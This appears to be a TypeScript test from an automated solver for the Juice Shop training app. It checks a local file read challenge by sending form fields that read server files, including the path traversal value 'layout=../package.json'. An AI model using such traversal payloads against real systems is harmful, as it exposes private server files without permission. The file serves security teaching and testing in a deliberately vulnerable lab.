import type { Attack, Tools } from '#lab'
import { send } from './steps.ts'

/** Has a file rendered. */
async function read(tools: Tools, fields: string, words: string): Promise<void> {
  const answer = await send(tools, fields)
  tools.expect(answer.status === 200, `the form was answered with ${answer.status}`)
  tools.expect(
    answer.text.endsWith('......') && answer.text.includes(words),
    'there is no file in the answer',
  )
}

export const attacks: Attack[] = [
  {
    challenge: 'lfrChallenge',
    name: 'have package.json put around the page',
    run: (tools) => read(tools, 'layout=../package.json', '"name": "juice-shop"'),
  },
  {
    challenge: 'lfrChallenge',
    name: 'have the source of another page read out',
    run: (tools) => read(tools, `email=jim@${tools.settings.domain}&layout=dataErasureForm`, '<h1>'),
  },
]
